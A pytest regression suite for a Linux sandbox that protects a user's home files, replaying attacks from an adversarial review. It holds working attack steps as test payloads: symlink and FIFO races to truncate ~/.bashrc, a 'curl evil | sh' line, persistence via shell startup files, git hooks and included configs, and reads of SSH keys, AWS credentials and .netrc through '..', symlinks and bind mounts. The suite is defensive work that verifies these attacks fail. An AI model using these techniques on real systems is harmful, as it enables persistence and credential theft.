"""Attacks on the protection of the user's files, found by an adversarial review: each
failed on the code before its fix. Run through the real CLI (or the API where several
sandboxes share a supervisor), in both protection modes where both apply, each with the
ordinary work beside it that must keep working."""

import os
import shutil
import subprocess
import sys
import threading
import time

import pytest

from test_user_files import MODES, _make_home, cli

SELF = os.path.abspath(__file__)


@pytest.fixture
def home(tmp_path):
    h = _make_home(tmp_path, None)
    env = dict(os.environ, HOME=str(h))
    subprocess.run(["git", "-C", str(h / "proj"), "commit", "-q", "--allow-empty", "-m",
                    "first"], check=True, env=env, capture_output=True)
    subprocess.run(["chmod", "-R", "a+rwX", str(h / "proj")], capture_output=True)
    return h


def _py(h, code, *args, mode="mounts", grant=("-w",), **kw):
    return cli(h, "run", *grant, str(h), "--", "/usr/bin/python3", "-c", code, *args,
               mode=mode, **kw)


# F1: a symlink swapped in while the guard's open waits in a queue was followed.
SWAP = r"""
import os, sys, threading, time
target = sys.argv[1]
os.chdir(sys.argv[2])
for n in ("f1", "f2", "f3", "f4", "x"):
    os.mkfifo(n)
for n in ("f1", "f2", "f3", "f4"):  # four opens that wait for a reader
    if os.fork() == 0:
        os.open(n, os.O_WRONLY | os.O_CREAT, 0o644)
        os._exit(0)
time.sleep(0.5)
def victim():
    try:
        fd = os.open("x", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.write(fd, b"curl evil | sh\n")
    except OSError:
        pass
threading.Thread(target=victim, daemon=True).start()
time.sleep(0.5)
os.unlink("x")
os.symlink(target, "x")
for n in ("f1", "f2", "f3", "f4"):
    os.close(os.open(n, os.O_RDONLY | os.O_NONBLOCK))
time.sleep(1.5)
print("done", flush=True)
os._exit(0)
"""


@pytest.mark.parametrize("mode", MODES)
def test_a_symlink_swapped_in_under_a_waiting_open_is_never_followed(home, mode, tmp_path):
    race = home / "proj" / "race"
    race.mkdir()
    os.chmod(race, 0o777)
    before = (home / ".bashrc").read_text()
    r = _py(home, SWAP, str(home / "proj/.envrc"), str(race), mode=mode)
    assert r.stdout == "done\n", r.stderr
    assert not os.path.lexists(home / "proj/.envrc")
    race2 = home / "proj" / "race2"
    race2.mkdir()
    os.chmod(race2, 0o777)
    r = _py(home, SWAP, str(home / ".bashrc"), str(race2), mode=mode)
    assert r.stdout == "done\n", r.stderr
    assert (home / ".bashrc").read_text() == before  # not truncated, not written


# F2, F6: a repository's config and hooks, however git finds them.
@pytest.mark.parametrize("mode", MODES)
def test_git_redirections_and_unscanned_repositories_are_protected(home, mode):
    env = dict(os.environ, HOME=str(home))
    deep = home / "go/src/github.com/org/repo"
    deep.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(deep)], check=True, env=env)
    lib = home / "lib-src"
    subprocess.run(["git", "init", "-q", str(lib)], check=True, env=env)
    subprocess.run(["git", "-C", str(lib), "commit", "-q", "--allow-empty", "-m", "l"],
                   check=True, env=env)
    subprocess.run(["git", "-C", str(home / "proj"), "-c", "protocol.file.allow=always",
                    "submodule", "add", "-q", str(lib), "lib"], check=True, env=env,
                   capture_output=True)
    (home / "proj/.husky").mkdir()
    (home / "proj/.husky/pre-commit").write_text("#!/bin/sh\nnpm test\n")
    subprocess.run(["git", "-C", str(home / "proj"), "config", "core.hooksPath", ".husky"],
                   check=True, env=env)
    subprocess.run(["chmod", "-R", "a+rwX", str(home)], capture_output=True)
    targets = [home / "proj/.git/commondir", deep / ".git/config",
               deep / ".git/hooks/pre-commit", home / "proj/.git/modules/lib/config",
               home / "proj/.git/modules/lib/hooks/post-checkout",
               home / "proj/.husky/pre-commit"]
    before = {t: t.read_text() if t.exists() else None for t in targets}
    code = ("import subprocess, sys\nfor p in sys.argv[2:]:\n    try:\n"
            "        open(p, 'a').write('x')\n        print('WROTE', p)\n"
            "    except OSError as e:\n        print('refused', e.errno)\n"
            "subprocess.run(['git', 'init', '-q', sys.argv[1]], check=True)\n"
            "subprocess.run(['git', '-C', sys.argv[1], 'config', 'user.name', 'x'], check=True)\n"
            "print('new repo ok')\n")
    r = _py(home, code, str(home / "proj/new"), *map(str, targets), mode=mode)
    assert r.returncode == 0, r.stderr
    assert "WROTE" not in r.stdout and r.stdout.count("refused") == len(targets), r.stdout
    assert "new repo ok" in r.stdout  # a repository the run makes is its own
    assert {t: t.read_text() if t.exists() else None for t in targets} == before


APPEND = ("import sys\nfor p in sys.argv[1:]:\n    try:\n"
          "        open(p, 'a').write('x')\n        print('WROTE', p)\n"
          "    except OSError as e:\n        print('refused', e.errno)\n")


def _none_written(home, targets, control, mode) -> None:
    """Under `-w HOME`, an append to each of `targets` is refused and changes nothing;
    the control, a file beside them, is the grant's as ever."""
    before = {t: t.read_text() if t.exists() else None for t in targets}
    r = _py(home, APPEND, *map(str, targets), str(control), mode=mode)
    assert r.returncode == 0, r.stderr
    assert r.stdout.count("refused") == len(targets), r.stdout
    assert r.stdout.endswith(f"WROTE {control}\n"), r.stdout
    assert {t: t.read_text() if t.exists() else None for t in targets} == before


# Review 2026-12-07: git config files included by another ([include] path=, and
# [includeIf ...] path= whatever its condition) run code as the config itself does
# (core.hooksPath, aliases, core.fsmonitor...): they were neither protected nor read for
# core.hooksPath.
@pytest.mark.parametrize("mode", MODES)
def test_included_git_config_files_are_protected(home, mode):
    env = dict(os.environ, HOME=str(home))
    proj = home / "proj"
    (proj / "shared.gitconfig").write_text("[alias]\n\tst = status\n")
    subprocess.run(["git", "-C", str(proj), "config", "include.path", "../shared.gitconfig"],
                   check=True, env=env)  # relative to .git/config's directory
    dotfiles = home / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "git.inc").write_text("[core]\n\thooksPath = ~/myhooks\n")
    (home / "myhooks").mkdir()
    (home / "myhooks/pre-commit").write_text("#!/bin/sh\nexit 0\n")
    with open(home / ".gitconfig", "a") as f:
        f.write('[include]\n\tpath = ~/dotfiles/git.inc\n'
                '[includeIf "gitdir:~/elsewhere/"]\n\tpath = dotfiles/absent.inc\n')
    subprocess.run(["chmod", "-R", "a+rwX", str(home)], capture_output=True)
    targets = [proj / "shared.gitconfig", dotfiles / "git.inc", home / "myhooks/pre-commit",
               dotfiles / "absent.inc"]
    _none_written(home, targets, dotfiles / "notes.txt", mode)


# Review 2026-12-07: what a startup file pulls in (a shell's `source`/`.`, ssh's Include,
# tmux's source-file, vim's source) runs code as the startup file does; it was writable.
@pytest.mark.parametrize("mode", MODES)
def test_files_the_startup_files_pull_in_are_protected(home, mode):
    dotfiles = home / "dotfiles"
    for d in ("conf.d", "nvm", "omz"):
        (dotfiles / d).mkdir(parents=True)
    for name in ("aliases.sh", "env.sh", "ssh.conf", "tmux.conf", "vim.vim",
                 "conf.d/a.sh", "deeper.sh", "nvm/nvm.sh", "omz/oh-my-zsh.sh"):
        (dotfiles / name).write_text("# ok\n")
    (dotfiles / "aliases.sh").write_text("source ~/dotfiles/deeper.sh\n")  # one more level
    with open(home / ".bashrc", "a") as f:
        f.write('source ~/dotfiles/aliases.sh\n[ -f "$HOME/dotfiles/env.sh" ] && '
                '. "$HOME/dotfiles/env.sh"\nfor f in x; do :; done; . dotfiles/absent.sh\n'
                'source ~/dotfiles/conf.d/*.sh\n'
                # as nvm's installer and oh-my-zsh write them: through a variable set above
                'export NVM_DIR="$HOME/dotfiles/nvm"\n'
                '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"  # This loads nvm\n')
    (home / ".zshrc").write_text('export ZSH=$HOME/dotfiles/omz\nsource $ZSH/oh-my-zsh.sh\n')
    (home / ".ssh").mkdir(exist_ok=True)
    with open(home / ".ssh/config", "a") as f:
        f.write("Include ~/dotfiles/ssh.conf\n")
    (home / ".tmux.conf").write_text("source-file -q ~/dotfiles/tmux.conf\n")
    (home / ".vimrc").write_text('" a comment: source ~/nothing\nsource ~/dotfiles/vim.vim\n')
    subprocess.run(["chmod", "-R", "a+rwX", str(home)], capture_output=True)
    targets = [dotfiles / n for n in ("aliases.sh", "env.sh", "absent.sh", "conf.d/a.sh",
                                      "deeper.sh", "ssh.conf", "tmux.conf", "vim.vim",
                                      "conf.d/new.sh", "nvm/nvm.sh", "omz/oh-my-zsh.sh")]  # a glob's directory: no new file
    _none_written(home, targets, dotfiles / "notes.txt", mode)


# F3: a seccomp-backend commit replaced .git (a directory) by a gitfile.
def test_a_workspace_commit_never_replaces_a_repository(home):
    proj = home / "proj"
    script = ("git init -q --bare .evil && rm -rf .git && echo 'gitdir: .evil' > .git && "
              "echo ok > ok.txt")
    r = cli(home, "run", "--workdir", str(proj), "--workspace-backend", "seccomp", "--cwd",
            str(proj), "--", "sh", "-c", script)
    assert r.returncode == 0, r.stderr
    assert (proj / ".git").is_dir() and (proj / "ok.txt").exists()
    log = subprocess.run(["git", "-C", str(proj), "log", "--oneline"], capture_output=True,
                         text=True, env=dict(os.environ, HOME=str(home)))
    assert log.returncode == 0 and "first" in log.stdout
    assert "not applied" in r.stderr


# F4: an ancestor of protected paths replaced by a symlink.
@pytest.mark.parametrize("mode", MODES)
def test_no_symlink_takes_the_place_of_a_directory_holding_protected_paths(home, mode):
    (home / ".config").mkdir(exist_ok=True)
    os.chmod(home / ".config", 0o777)
    script = (f"rmdir {home}/.config; mkdir -p {home}/proj/cfg/git && "
              f"ln -s {home}/proj/cfg {home}/.config; echo \"ln=$?\"; "
              f"ln -s {home}/proj/cfg {home}/proj/link && echo ok-other-name")
    r = cli(home, "run", "-w", str(home), "--", "sh", "-c", script, mode=mode)
    assert "ok-other-name" in r.stdout, r.stderr  # the control: a symlink elsewhere
    assert not os.path.islink(home / ".config")
    assert "ln=1" in r.stdout or mode == "landlock", r.stdout + r.stderr


# F5: one sandbox stalling the supervisor every sandbox shares (a lease on an open).
LEASE = r"""
import fcntl, os, signal, sys, time
signal.signal(signal.SIGIO, signal.SIG_IGN)
os.mknod("f", 0o644 | 0o100000)
r = os.open("f", os.O_RDONLY)
fcntl.fcntl(r, fcntl.F_SETLEASE, fcntl.F_RDLCK)
print("leased", flush=True)
os.close(os.open("f", os.O_WRONLY | os.O_CREAT))  # waits for the lease break (45 s)
"""
MANY = r"""
import os, time
t = time.time()
for i in range(20):
    os.close(os.open("g%d" % i, os.O_WRONLY | os.O_CREAT, 0o644))
print("%.2f" % (time.time() - t))
"""


def test_a_sandbox_waiting_in_an_open_does_not_stall_the_others(tmp_path):
    from sandlock import Sandbox, StdioMode, system_devices, system_readable
    dirs = [tmp_path / "a", tmp_path / "b"]
    for d in dirs:
        d.mkdir()
        os.chmod(d, 0o777)
    os.chmod(tmp_path, 0o777)

    def sandbox(d):
        return Sandbox(fs_readable=system_readable(), fs_writable=system_devices() + [str(d)],
                       cwd=str(d), protect_user_files=True,
                       env={"HOME": str(d), "PATH": "/usr/bin:/bin"})
    a = sandbox(dirs[0]).popen(["/usr/bin/python3", "-c", LEASE], stdout=StdioMode.PIPED)
    try:
        assert a.stdout.readline() == b"leased\n"
        time.sleep(0.5)  # A's open now waits for its lease to break
        r = sandbox(dirs[1]).run(["/usr/bin/python3", "-c", MANY], timeout=30)
        assert r.success, r.stderr
        assert float(r.stdout) < 5, r.stdout  # not 45 s per open
    finally:
        a.kill()
        a.wait()
        a.close()


# F7: persistence vectors the lists missed, and secrets absent at the start.
@pytest.mark.parametrize("mode", MODES)
def test_more_persistence_vectors_and_absent_secrets_are_refused(home, mode):
    rels = [".bash_aliases", "bin/git", ".local/lib/python3.11/site-packages/zz.pth",
            ".kube/config", ".npmrc", ".docker/config.json", ".config/pip/pip.conf",
            ".cargo/config.toml", ".tmux.conf", ".local/share/applications/x.desktop"]
    code = ("import os, sys\nh = sys.argv[1]\nfor rel in sys.argv[2:]:\n"
            "    p = os.path.join(h, rel)\n    try:\n"
            "        os.makedirs(os.path.dirname(p), exist_ok=True)\n"
            "        open(p, 'w').write('x')\n        print('CREATED', rel)\n"
            "    except OSError:\n        print('refused', rel)\n"
            "open(os.path.join(h, 'proj', 'notes.md'), 'w').write('fine')\nprint('ok')\n")
    r = _py(home, code, str(home), *rels, mode=mode)
    assert r.returncode == 0 and r.stdout.endswith("ok\n"), r.stderr
    assert "CREATED" not in r.stdout, r.stdout
    for rel in rels:
        assert not os.path.exists(home / rel), rel


# F8: a secret kept elsewhere and linked into ~/.ssh (stow, chezmoi).
@pytest.mark.parametrize("mode", MODES)
def test_a_secret_linked_into_a_secret_directory_is_hidden_where_it_lives(home, mode):
    (home / "dotfiles/ssh").mkdir(parents=True)
    key = home / ".ssh/id_ed25519"
    os.rename(key, home / "dotfiles/ssh/id_ed25519")
    os.symlink("../dotfiles/ssh/id_ed25519", key)
    subprocess.run(["chmod", "-R", "a+rwX", str(home / "dotfiles")], capture_output=True)
    r = cli(home, "run", "-r", str(home), "--", "sh", "-c",
            f"cat {home}/dotfiles/ssh/id_ed25519; cat {home}/proj/README", mode=mode)
    assert "PRIVATE KEY" not in r.stdout and r.stdout == "readme\n", r.stdout + r.stderr


# F9: an open of a FIFO whose caller was killed stayed blocked in the supervisor.
FIFO_KILLED = r"""
import os, time
for i in range(4):
    os.mkfifo("f%d" % i)
    if os.fork() == 0:
        os.open("f%d" % i, os.O_RDONLY | os.O_CREAT)
        os._exit(0)
time.sleep(0.5)
"""


def test_no_open_outlives_its_killed_caller(tmp_path):
    from sandlock import Sandbox, system_devices, system_readable
    os.chmod(tmp_path, 0o777)

    def blocked():
        return sum(1 for t in threading.enumerate() if t.name.startswith("sandlock-"))
    counts = []
    for i in range(3):
        d = tmp_path / f"d{i}"
        d.mkdir()
        os.chmod(d, 0o777)
        sb = Sandbox(fs_readable=system_readable(), fs_writable=system_devices() + [str(d)],
                     cwd=str(d), protect_user_files=True, env={"HOME": str(d)})
        assert sb.run(["/usr/bin/python3", "-c", FIFO_KILLED], timeout=30).success
        time.sleep(1.5)
        # The blocked opens end asynchronously (their other end opened on a worker): a
        # loaded machine gets up to 10 s before what is left counts as kept.
        deadline = time.monotonic() + 10
        while counts and time.monotonic() < deadline and (
                len(os.listdir("/proc/self/fd")) > counts[0][0]
                or blocked() > counts[0][1] + 1):
            time.sleep(0.1)
        counts.append((len(os.listdir("/proc/self/fd")), blocked()))
    assert counts[2][0] <= counts[0][0], counts  # no fd kept per run
    assert counts[2][1] <= counts[0][1] + 1, counts  # no thread kept per run


# F10: the file hidden files are covered with, reachable (and writable) on the host.
def test_the_cover_of_hidden_files_is_out_of_reach(home, tmp_path):
    os.chmod(tmp_path, 0o777)
    r = cli(home, "run", "-w", "/tmp", "-r", str(home), "--", "sh", "-c",
            "for d in /tmp/sandlock-hidden-*; do chmod 644 $d/hidden; "
            f"echo planted > $d/hidden; done; cat {home}/.netrc; echo end")
    assert "planted" not in r.stdout and r.stdout.endswith("end\n"), r.stdout + r.stderr


# F11: metadata of protected files (the supervisor's own chmod/utimes path).
def test_metadata_of_protected_files_never_changes(home):
    before = os.stat(home / ".bashrc")
    r = cli(home, "run", "-w", str(home), "--", "sh", "-c",
            f"chmod 777 {home}/.bashrc; touch -d 2001-01-01 {home}/.bashrc; "
            f"chmod 600 {home}/proj/README && echo ok", mode="landlock")
    assert r.stdout == "ok\n", r.stderr  # the control
    after = os.stat(home / ".bashrc")
    assert (after.st_mode, after.st_mtime) == (before.st_mode, before.st_mtime)


# Review 2026-12-05 F1: a seccomp workdir inside a writable grant expanded that grant
# around it, and gave a denied entry beside it (--fs-deny; a hidden secret in "landlock"
# mode) the full grant.
@pytest.mark.parametrize("backend", ["seccomp", "overlay"])
@pytest.mark.parametrize("mode", MODES)
def test_denied_paths_beside_a_workdir_in_a_writable_grant_stay_denied(home, mode,
                                                                        backend):
    private = home / "private"
    private.mkdir()
    (private / "key").write_text("PRIVATE-KEY\n")
    (home / "notes").mkdir()  # beside the workdir, in the grant (new names directly in
    # the home are not: the grant is expanded around the workdir, docs/workspace.md)
    script = (f"cat {private}/key; echo rc=$?; echo planted >> {private}/key; echo rc=$?; "
              f"cat {home}/.aws/credentials; echo rc=$?; echo ok >> {home}/notes/other.txt; "
              f"echo rc=$?")
    r = cli(home, "run", "-w", str(home), "--fs-deny", str(private), "--workspace-backend",
            backend, "--workdir", ".", "--on-exit", "abort", "--", "sh", "-c", script,
            mode=mode)
    rcs = [line for line in r.stdout.splitlines() if line.startswith("rc=")]
    assert rcs[:3] == ["rc=1", "rc=2", "rc=1"] and "PRIVATE" not in r.stdout, r.stdout
    assert "aws_secret_access_key" not in r.stdout
    assert (private / "key").read_text() == "PRIVATE-KEY\n"  # nothing planted
    assert rcs[3] == "rc=0", r.stderr  # the control
    assert (home / "notes/other.txt").read_text() == "ok\n"


# F2: a path spelled in the workdir that leaves it (`..`, a symlink) was opened by the
# supervisor in its own mount namespace, checked against the grants only: secrets were
# read and startup files written.
@pytest.mark.parametrize("mode", MODES)
def test_a_path_leaving_the_workdir_keeps_the_user_s_files_protected(home, mode):
    (home / "notes").mkdir()
    os.link(home / ".bashrc", home / "notes" / "rc")  # another name of a protected file
    script = ("echo x > note; cat ../.aws/credentials; echo rc=$?; "
              "echo PERSIST >> ../.bashrc; echo rc=$?; "
              "ln -s ../.profile prof && echo PERSIST >> prof; echo rc=$?; "
              "echo PERSIST >> ../.netrc; echo rc=$?; echo PERSIST >> ../notes/rc; echo rc=$?; "
              "echo ok >> ../notes/other.txt; echo rc=$?; cat ../proj/note; "
              "cat ../.gitconfig")
    r = cli(home, "run", "-w", str(home), "--workspace-backend", "seccomp", "--workdir",
            ".", "--on-exit", "abort", "--", "sh", "-c", script, mode=mode)
    rcs = [line for line in r.stdout.splitlines() if line.startswith("rc=")]
    assert rcs[:5] == ["rc=1", "rc=2", "rc=2", "rc=2", "rc=2"], (r.stdout, r.stderr)
    assert "aws_secret_access_key" not in r.stdout
    assert (home / ".bashrc").read_text() == "# the user's bashrc\n"
    assert (home / ".profile").read_text() == "# the user's profile\n"
    assert "PERSIST" not in (home / ".netrc").read_text()
    # the control: the rest of the grant is written, read, and the layer read back
    assert rcs[5] == "rc=0" and (home / "notes/other.txt").read_text() == "ok\n"
    assert "x\n" in r.stdout and "Fake User" in r.stdout


# Review 2026-12-05 (prepared sandboxes, side note): the plan works by path, so a home
# reached through a bind mount elsewhere had none of its secrets hidden there.
@pytest.mark.skipif(os.geteuid() != 0, reason="a bind mount")
@pytest.mark.parametrize("mode", MODES)
def test_a_home_reached_through_another_mount_keeps_its_secrets(home, mode, tmp_path):
    alias = tmp_path / "alias"
    alias.mkdir()
    subprocess.run(["mount", "--bind", str(home), str(alias)], check=True)
    try:
        r = cli(home, "run", "-r", str(alias), "--", "sh", "-c",
                f"cat {alias}/.gitconfig; cat {alias}/.ssh/id_ed25519; echo rc=$?; "
                f"cat {alias}/.aws/credentials; echo rc=$?", mode=mode)
    finally:
        subprocess.run(["umount", str(alias)], check=True)
    assert "Fake User" in r.stdout, r.stderr  # the control: the rest of the home is read
    assert "PRIVATE KEY" not in r.stdout and "aws_secret_access_key" not in r.stdout
    assert [x for x in r.stdout.splitlines() if x.startswith("rc=")] == ["rc=1", "rc=1"]


# Review 2026-12-05 (third): what a sandbox leaves behind must not stall or weaken the next.
def test_a_planted_endless_git_config_is_refused_not_read_forever(home, tmp_path):
    """A .git/config in a writable grant that reads forever (/proc/self/pagemap) hung
    every later build of that grant: it is refused at once, with its path."""
    work = home / "work"
    (work / "x" / ".git").mkdir(parents=True)
    os.symlink("/proc/self/pagemap", work / "x" / ".git" / "config")
    (work / "y" / ".git").mkdir(parents=True)
    with open(work / "y" / ".git" / "config", "wb") as f:  # sparse: 1 TB to read
        f.truncate(1 << 40)
    try:
        t = time.monotonic()
        r = cli(home, "run", "-w", str(work), "--", "echo", "built")
    finally:  # the other tests' grants of /tmp must not meet them
        shutil.rmtree(work)
    assert time.monotonic() - t < 30 and r.returncode == 125, r.stderr
    assert "too large to check for core.hooksPath" in r.stderr and "y/.git" in r.stderr
    r = cli(home, "run", "-w", str(home / "proj"), "--", "echo", "built")  # the control
    assert r.stdout == "built\n", r.stderr


def test_truncate_of_a_fifo_in_the_workspace_is_einval_and_never_stalls(home):
    code = ("import os\nos.mkfifo('ff')\ntry:\n    os.truncate('ff', 0)\n"
            "except OSError as e:\n    print(e.errno)\nopen('after', 'w').write('ok')\n"
            "print(open('after').read())\n")
    r = cli(home, "run", "--workdir", ".", "--workspace-backend", "seccomp", "--on-exit",
            "abort", "--", "/usr/bin/python3", "-c", code)
    assert r.stdout.split() == ["22", "ok"], (r.stdout, r.stderr)


@pytest.mark.skipif(os.geteuid() != 0, reason="a bind mount")
@pytest.mark.parametrize("mode", MODES)
def test_a_secret_s_other_mount_is_not_granted_and_not_looked_at(home, mode, tmp_path):
    alias = tmp_path / "sshalias"
    alias.mkdir()
    subprocess.run(["mount", "--bind", str(home / ".ssh"), str(alias)], check=True)
    try:
        r = cli(home, "run", "-r", str(alias), "--", "cat", str(alias / "id_ed25519"),
                mode=mode)
    finally:
        subprocess.run(["umount", str(alias)], check=True)
    assert r.returncode == 125 and "PRIVATE KEY" not in r.stdout, (r.stdout, r.stderr)
    assert "reached through another mount" in r.stderr
    # through a workdir symlink the supervisor looks for the sandbox: never at a secret
    (home / ".netrc").write_text("machine x password SECRETSECRETSECRET\n")
    r = cli(home, "run", "-w", str(home), "--workspace-backend", "seccomp", "--workdir", ".",
            "--on-exit", "abort", "--", "sh", "-c",
            "ln -s .. up; echo x > f; stat -c %s up/.netrc; echo rc=$?; stat -c %s up/.gitconfig",
            mode=mode)
    sizes = r.stdout.split()
    assert "38" not in sizes and "rc=1" in sizes and len(sizes) == 2, (r.stdout, r.stderr)
